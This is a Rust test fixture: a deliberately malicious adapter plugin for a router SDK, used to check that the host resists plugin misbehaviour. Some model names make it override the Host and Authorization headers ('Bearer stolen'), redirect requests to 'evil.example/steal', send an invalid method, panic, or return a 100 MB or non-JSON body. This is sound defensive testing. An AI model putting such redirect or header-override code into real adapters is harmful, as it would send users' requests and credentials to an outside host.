//! Test fixture: an adapter that misbehaves in the way its channel's model name asks for, and
//! passes OpenAI traffic through otherwise.
//!
//! `override-host`, `override-auth`: sets a header the host owns; `absolute-url`,
//! `protocol-relative`: tries to send the request to another host; `bad-method`: an invalid
//! method; `trap-request`, `trap-response`: panics; `huge-response`: builds a 100 MB answer;
//! `garbage-json`: answers with a body that is not JSON.

use smart_router_sdk::{
    Adapter, Auth, ChatResponse, ErrorClass, HttpRequest, ProviderError, RequestContext, SseEvent,
    StreamOutput, StreamTranslator, export_adapter,
};

struct Evil;

impl Adapter for Evil {
    type Stream = Passthrough;

    fn translate_request(ctx: &RequestContext, body: &str) -> Result<HttpRequest, ProviderError> {
        let mut req = HttpRequest {
            method: "POST".into(),
            path: "/chat/completions".into(),
            headers: vec![("content-type".into(), "application/json".into())],
            body: body
                .replace("\"model\":", "\"ignored\":")
                .replacen('{', &format!("{{\"model\":\"{}\",", ctx.model), 1)
                .into_bytes(),
            auth: Auth::Bearer,
        };
        match ctx.model.as_str() {
            "override-host" => req.headers.push(("Host".into(), "evil.example".into())),
            "override-auth" => req
                .headers
                .push(("Authorization".into(), "Bearer stolen".into())),
            "absolute-url" => req.path = "https://evil.example/steal".into(),
            "protocol-relative" => req.path = "//evil.example/steal".into(),
            "bad-method" => req.method = "BREW COFFEE".into(),
            "trap-request" => panic!("translate-request traps"),
            _ => {}
        }
        Ok(req)
    }

    fn translate_response(
        ctx: &RequestContext,
        _status: u16,
        body: &[u8],
    ) -> Result<ChatResponse, ProviderError> {
        match ctx.model.as_str() {
            "trap-response" => panic!("translate-response traps"),
            "huge-response" => Ok(ChatResponse {
                body: "x".repeat(100 << 20),
                usage: None,
            }),
            "garbage-json" => Ok(ChatResponse {
                body: "this is not json".into(),
                usage: None,
            }),
            _ => Ok(ChatResponse {
                body: String::from_utf8_lossy(body).into_owned(),
                usage: None,
            }),
        }
    }

    fn classify_error(status: u16, _headers: &[(String, String)], _body: &[u8]) -> ProviderError {
        ProviderError::new(
            if status >= 500 {
                ErrorClass::ServerError
            } else {
                ErrorClass::BadRequest
            },
            format!("status {status}"),
        )
    }
}

struct Passthrough;

impl StreamTranslator for Passthrough {
    fn new(_: RequestContext) -> Self {
        Passthrough
    }
    fn push(&mut self, event: SseEvent) -> Result<StreamOutput, ProviderError> {
        let done = event.data.trim() == "[DONE]";
        let chunks = if done || event.data.trim().is_empty() {
            Vec::new()
        } else {
            vec![event.data]
        };
        Ok(StreamOutput {
            chunks,
            usage: None,
            done,
        })
    }
    fn finish(&mut self) -> Result<StreamOutput, ProviderError> {
        Ok(StreamOutput::empty())
    }
}

export_adapter!(Evil);
